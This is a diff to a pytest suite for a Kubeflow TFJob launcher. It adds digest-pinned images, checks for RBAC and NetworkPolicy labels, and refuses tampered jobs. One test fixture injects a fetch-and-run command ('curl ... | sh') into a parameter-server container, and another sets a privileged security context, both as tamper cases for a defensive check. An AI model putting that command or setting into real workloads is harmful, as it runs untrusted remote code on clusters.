@@ -30,7 +30,7 @@ TFJOB_TEMPLATE = os.path.join(REPO_ROOT, 'k8s', 'tfjob.yaml')
 NAMESPACE = 'playrecall'
 TFJOBS = f'/apis/kubeflow.org/v1/namespaces/{NAMESPACE}/tfjobs'
 CONFIG_MAPS = f'/api/v1/namespaces/{NAMESPACE}/configmaps'
-IMAGE = 'registry.example.com/ml/playrecall:2.0.0'
+IMAGE = 'registry.example.com/ml/playrecall@sha256:' + '0123456789abcdef' * 4
 
 
 @functools.lru_cache(maxsize=1)
@@ -137,6 +137,9 @@ def test_the_tfjob_carries_the_trainers_paths_to_every_replica():
   for role, spec in specs.items():
     [container] = [c for c in spec['template']['spec']['containers'] if c['name'] == 'tensorflow']
     assert container['image'] == IMAGE, role
+    # The NetworkPolicy of the TF server port admits pods with this label only.
+    assert tfjob_launcher.SERVER_POD_LABELS.items() <= spec['template']['metadata'][
+        'labels'].items(), role
     args = container['args']
     assert args[args.index('--serving_model_dir') + 1] == _fn_args().serving_model_dir
     assert args[args.index('--model_dir') + 1] == _fn_args().model_run_dir
@@ -165,6 +168,12 @@ def test_bad_settings_are_named():
   del template['spec']['tfReplicaSpecs']['PS']
   with pytest.raises(ValueError, match=r"replicas \['PS'\] are not replica groups"):
     tfjob_launcher.build_tfjob(template, _fn_args(), settings.TFJobConfig(replicas={'PS': 1}))
+  # A tag can be pushed again with other code; the template names no image at all.
+  with pytest.raises(ValueError, match=r"image: 'registry.example.com/ml/playrecall:2.0.0' is not "
+                                       r"allowed; must be by digest"):
+    settings.TFJobConfig(image='registry.example.com/ml/playrecall:2.0.0')
+  with pytest.raises(ValueError, match=r"TFJob Chief: image None is not named by digest"):
+    tfjob_launcher.build_tfjob(_template(), _fn_args(), settings.TFJobConfig())
 
 
 def test_the_template_is_read_from_the_clusters_config_map(k8s_api):
@@ -180,7 +189,7 @@ def test_launch_waits_until_the_job_succeeds(k8s_api):
   api = kubernetes.client.CustomObjectsApi(api_client)
   log = []
   tfjob = tfjob_launcher.launch_and_wait(api, _template(), _fn_args(), settings.TFJobConfig(
-      poll_seconds=0), log=log.append)
+      image=IMAGE, poll_seconds=0), log=log.append)
   assert tfjob_launcher.job_state(tfjob)['type'] == 'Succeeded'
   name = tfjob_launcher.tfjob_name(_fn_args())
   assert state['requests'][0] == ('POST', TFJOBS)
@@ -192,7 +201,7 @@ def test_launch_waits_until_the_job_succeeds(k8s_api):
 def test_a_restarted_trainer_attaches_to_its_job(k8s_api):
   state, api_client = k8s_api
   api = kubernetes.client.CustomObjectsApi(api_client)
-  config = settings.TFJobConfig(poll_seconds=0)
+  config = settings.TFJobConfig(image=IMAGE, poll_seconds=0)
   tfjob_launcher.launch_and_wait(api, _template(), _fn_args(), config, log=lambda _: None)
   log = []
   tfjob_launcher.launch_and_wait(api, _template(), _fn_args(), config, log=log.append)
@@ -207,7 +216,7 @@ def test_a_failed_job_fails_the_trainer_with_the_operators_reason(k8s_api):
                        _condition('Failed', 'TFJobFailed', 'TFJob chief-0 exited with code 1')]
   with pytest.raises(tfjob_launcher.TFJobFailed, match='chief-0 exited with code 1'):
     tfjob_launcher.launch_and_wait(api, _template(), _fn_args(), settings.TFJobConfig(
-        poll_seconds=0), log=lambda _: None)
+        image=IMAGE, poll_seconds=0), log=lambda _: None)
 
 
 def test_an_invalid_tfjob_is_refused_by_the_schema(k8s_api):
@@ -217,7 +226,7 @@ def test_an_invalid_tfjob_is_refused_by_the_schema(k8s_api):
   template['spec']['tfReplicaSpecs']['Chief']['replicas'] = 'one'
   with pytest.raises(kubernetes.client.rest.ApiException) as error:
     tfjob_launcher.launch_and_wait(api, template, _fn_args(), settings.TFJobConfig(
-        poll_seconds=0), log=lambda _: None)
+        image=IMAGE, poll_seconds=0), log=lambda _: None)
   assert error.value.status == 422
 
 
@@ -229,5 +238,63 @@ def test_a_job_that_outlives_its_timeout_fails_the_trainer(k8s_api):
                      r'Running\)'):
     tfjob_launcher.launch_and_wait(
         kubernetes.client.CustomObjectsApi(api_client), _template(), _fn_args(),
-        settings.TFJobConfig(poll_seconds=0, timeout_seconds=1800), log=lambda _: None,
+        settings.TFJobConfig(image=IMAGE, poll_seconds=0, timeout_seconds=1800), log=lambda _: None,
         clock=lambda: next(ticks))
+
+
+def _asked(requests):
+  """(API group, resource, verb) of each request the stand-in API server saw."""
+  verbs = {'POST': 'create', 'GET': 'get'}
+  asked = set()
+  for method, path in requests:
+    parts = path.strip('/').split('/')  # api/v1/... or apis/GROUP/VERSION/...
+    asked.add(('' if parts[0] == 'api' else parts[1], parts[parts.index('namespaces') + 2],
+               verbs[method]))
+  return asked
+
+
+def test_the_launcher_asks_for_exactly_what_k8s_rbac_grants(k8s_api):
+  state, api_client = k8s_api
+  config = settings.TFJobConfig(image=IMAGE, poll_seconds=0)
+  template = tfjob_launcher.template_from_cluster(kubernetes.client.CoreV1Api(api_client), config)
+  api = kubernetes.client.CustomObjectsApi(api_client)
+  for _ in range(2):  # creates the job, then attaches to it as a restarted step would
+    tfjob_launcher.launch_and_wait(api, template, _fn_args(), config, log=lambda _: None)
+  assert _asked(state['requests']) == {(group, resource, verb) for (group, resource), verbs in
+                                       tfjob_launcher.API_VERBS.items() for verb in verbs}
+
+
+def _other_image(tfjob):
+  for spec in tfjob['spec']['tfReplicaSpecs'].values():
+    spec['template']['spec']['containers'][0]['image'] = IMAGE.replace('0123', '4567')
+
+
+def _shell_on_ps(tfjob):
+  container = tfjob['spec']['tfReplicaSpecs']['PS']['template']['spec']['containers'][0]
+  container['command'] = ['sh', '-c', 'curl -s http://example.com/x | sh']
+
+
+def _more_workers(tfjob):
+  tfjob['spec']['tfReplicaSpecs']['Worker']['replicas'] += 1
+
+
+def _privileged_chief(tfjob):
+  pod = tfjob['spec']['tfReplicaSpecs']['Chief']['template']['spec']
+  pod['containers'][0]['securityContext'] = {'privileged': True}
+
+
+@pytest.mark.parametrize('change, differing', [
+    (_other_image, 'Chief, PS, Worker'), (_shell_on_ps, 'PS'), (_more_workers, 'Worker'),
+    (_privileged_chief, 'Chief')])
+def test_a_job_of_its_name_that_runs_something_else_is_refused(k8s_api, change, differing):
+  """A job left by a run with other settings, or created by someone else, is never waited for."""
+  state, api_client = k8s_api
+  config = settings.TFJobConfig(image=IMAGE, poll_seconds=0)
+  existing = tfjob_launcher.build_tfjob(_template(), _fn_args(), config)
+  change(existing)
+  state['jobs'][existing['metadata']['name']] = existing
+  with pytest.raises(tfjob_launcher.TFJobMismatch, match=f'exists but its {differing} pods '
+                     'differ from what this Trainer step would create'):
+    tfjob_launcher.launch_and_wait(kubernetes.client.CustomObjectsApi(api_client), _template(),
+                                   _fn_args(), config, log=lambda _: None)
+  assert state['reads'] == 1  # read once to compare, never polled
